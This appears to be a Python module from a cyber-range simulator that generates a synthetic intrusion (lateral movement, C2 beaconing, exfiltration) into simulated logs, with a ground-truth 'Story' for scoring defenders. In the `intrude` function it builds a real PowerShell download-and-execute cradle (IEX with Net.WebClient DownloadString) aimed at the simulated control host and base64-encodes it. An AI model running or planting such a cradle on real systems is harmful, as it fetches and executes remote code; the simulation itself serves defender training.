"""Intrusion: an attacker at work. Owns the attacker's clock, infrastructure and the story told; what is done stands in `scenarios`."""

import base64
from collections.abc import Generator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from random import Random
from typing import cast

from watchkeeper.cyberrange import remote, traffic, windows
from watchkeeper.cyberrange.company import Person
from watchkeeper.cyberrange.journal import Mark
from watchkeeper.cyberrange.machine import Machine, Seat
from watchkeeper.cyberrange.recipe import Act, Playing, play
from watchkeeper.cyberrange.remote import Errand, Way
from watchkeeper.cyberrange.tables import entries, fill
from watchkeeper.cyberrange.traffic import Flow, Site
from watchkeeper.cyberrange.world import Desk, World

EARLIEST_SECONDS = 7200.0
"""No intrusion begins earlier in the day, if the day is long enough."""

_WAYS: Mapping[Way, str] = {
    remote.by_service: "T1569.002",
    remote.by_wmi: "T1047",
    remote.by_winrm: "T1021.006",
    remote.by_task: "T1053.005",
    remote.by_desktop: "T1021.001",
}


@dataclass(slots=True)
class Story:
    """The truth about one intrusion, for those who score others."""

    entry: dict[str, str] = field(default_factory=dict[str, str])
    """Host, process and user it began with."""
    addresses: list[str] = field(default_factory=list[str])
    domains: list[str] = field(default_factory=list[str])
    hosts: list[str] = field(default_factory=list[str])
    accounts: list[str] = field(default_factory=list[str])
    steps: list[dict[str, str]] = field(default_factory=list[dict[str, str]])

    def told(self) -> dict[str, object]:
        """Give the story as plain data."""
        return {
            "start": min(step["time"] for step in self.steps),
            "end": max(step["time"] for step in self.steps),
            "entry": self.entry,
            "attackers": {"addresses": self.addresses, "domains": self.domains},
            "hosts": self.hosts,
            "accounts": self.accounts,
            "steps": sorted(self.steps, key=lambda step: step["time"]),
        }


@dataclass(slots=True)
class Intrusion:
    """One intrusion under way; `now` is seconds since the day began and only rises."""

    world: World
    rng: Random
    now: float
    pace: float
    """Longest pause between two actions, seconds."""
    control: Site
    """Where the implants call home."""
    known: dict[str, str]
    """Places of the attacker's recipes that stay the same, such as the implant's name."""
    story: Story = field(default_factory=Story)

    def pause(self) -> None:
        """Let some time pass."""
        self.now += self.rng.uniform(self.pace / 8, self.pace)

    @contextmanager
    def step(self, name: str, technique: str, machine: Machine, account: str, when: float | None = None) -> Generator[None]:
        """Do something that belongs to a step; it is told in the story and every record of it is marked. `-` stands for no account."""
        self.story.steps.append({
            "step": name, "technique": technique, "host": machine.host.name.lower(), "user": account,
            "time": windows.iso(self.world.journal.start, self.now if when is None else when),
        })  # fmt: skip
        _once(self.story.hosts, machine.host.name.lower())
        if account != "-":
            _once(self.story.accounts, account)
        with self.world.journal.marked(Mark(name, technique, machine.host.name.lower())):
            yield

    def do(self, step: str, kit: str, seat: Seat, known: Mapping[str, str] | None = None) -> Playing:
        """Play one of the ways of that kit (`content/range/attack.yml`), then pause."""
        return self.follow(step, self.rng.choice(entries("attack", kit)), seat, known)

    def several(self, step: str, kit: str, seat: Seat, least: int, most: int) -> None:
        """Play several different ways of that kit, one after another."""
        ways = entries("attack", kit)
        for way in self.rng.sample(ways, min(len(ways), self.rng.randint(least, most))):
            self.follow(step, way, seat)

    def follow(self, step: str, way: Mapping[str, object], seat: Seat, known: Mapping[str, str] | None = None) -> Playing:
        """Play one way, then pause."""
        with self.step(step, str(way["technique"]), seat.machine, seat.logon.account):
            playing = play(self.world, seat, cast(Sequence[Act], way["do"]), self.now, {**self.known, **(known or {})})
        self.now = playing.when
        self.pause()
        return playing

    def move(self, way: Way, seat: Seat, target: Machine, errand: Errand) -> Seat:
        """Go to another machine."""
        self.now += 8
        with self.step("lateral-movement", _WAYS[way], target, errand.person.account):
            there = way(self.world, seat, target, errand, self.now)
        self.now += 3
        self.pause()
        return there

    def settle(self, seat: Seat) -> Seat:
        """Run an implant on a machine just reached, and go on from it."""
        return Seat(seat.machine, self.do("execution", "arrival", seat).process, seat.logon)

    def beacon(self, seat: Seat, start: float, end: float, count: int) -> None:
        """Have a process call home about so many times between two points in time, at an even pace with some jitter."""
        gap = (end - start) / count
        with self.step("command-and-control", "T1071.001", seat.machine, seat.logon.account, start):
            traffic.lookup(self.world.gateway, seat, self.control, start)
            for number in range(count):
                when = start + number * gap + self.rng.uniform(0, gap * 0.2)
                sizes = (self.rng.randrange(420, 700), self.rng.randrange(300, 900))
                flow = Flow(seat.machine.host.address, self.control.address, 443, *sizes, 0.4, "ssl", opened=traffic.opened(self.rng))
                self.world.gateway.tls(when, flow, self.control.name)
                if number % 3 == 0:
                    traffic.connect(seat, flow, when, self.control.name)

    def upload(self, seat: Seat, site: Site, size: int, technique: str = "T1041") -> None:
        """Send so many bytes out to a site in a few connections."""
        parts = self.rng.randint(2, 5)
        with self.step("exfiltration", technique, seat.machine, seat.logon.account):
            for _ in range(parts):
                traffic.visit(self.world.gateway, seat, site, self.now, size // parts, self.rng.randrange(4000, 20_000))
                self.now += self.rng.uniform(20, 90)
        _once(self.story.domains, site.name)

    def begin(self, seat: Seat, process: str) -> None:
        """Note where the intrusion began."""
        self.story.entry = {"host": seat.machine.host.name.lower(), "process": process, "user": seat.logon.account}

    def outside(self, *addresses: str) -> None:
        """Note addresses of the attacker."""
        for address in addresses:
            _once(self.story.addresses, address)

    def victim(self, *departments: str) -> Desk:
        """Choose somebody who is at work long enough."""
        return self.rng.choice(self.at_work(*departments))

    def at_work(self, *departments: str) -> list[Desk]:
        """Give the desks of these departments, or of all but administrators, that are occupied now."""
        chosen = [
            desk
            for desk in self.world.desks.values()
            if desk.start < self.now - 300 and (desk.person.department in departments or (not departments and not desk.person.admin))
        ]
        return chosen or list(self.world.desks.values())

    def admin(self) -> Person:
        """Choose the administrator whose account falls into the attacker's hands."""
        return self.rng.choice(self.world.company.staff("administration"))

    def servers(self, *roles: str) -> list[Machine]:
        """Give the servers of these roles, in random order."""
        machines = [machine for machine in self.world.machines.values() if machine.host.role in roles]
        self.rng.shuffle(machines)
        return machines


def intrude(world: World, rng: Random, actions: int, *, late: bool = False) -> Intrusion:
    """Draw an attacker: infrastructure, names, pace, and a time that leaves room for about so many actions; `late` is towards evening."""
    control = traffic.known(traffic.stranger(rng).name)
    duration = rng.uniform(25, 100) * 60
    duration = min(duration, world.seconds / 3)
    earliest = min(EARLIEST_SECONDS, world.seconds * 0.3)
    latest = max(earliest, world.seconds - duration * 1.15 - 300)
    earliest = earliest + (latest - earliest) * 0.8 if late else earliest
    known = {"c2": control.name, "c2ip": control.address}
    for place in ("implant", "drop", "stage", "task", "payload", "note"):
        known[place] = fill(rng.choice([str(entry["text"]) for entry in entries("attack", place)]), dict(known), rng)
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('https://{control.name}/{known['payload']}.ps1')"
    known["encoded"] = base64.b64encode(cradle.encode("utf-16-le")).decode()
    intrusion = Intrusion(world, rng, rng.uniform(earliest, latest), duration / actions * 1.75, control, known)
    intrusion.outside(control.address)
    intrusion.story.domains.append(control.name)
    return intrusion


def _once(values: list[str], value: str) -> None:
    if value not in values:
        values.append(value)
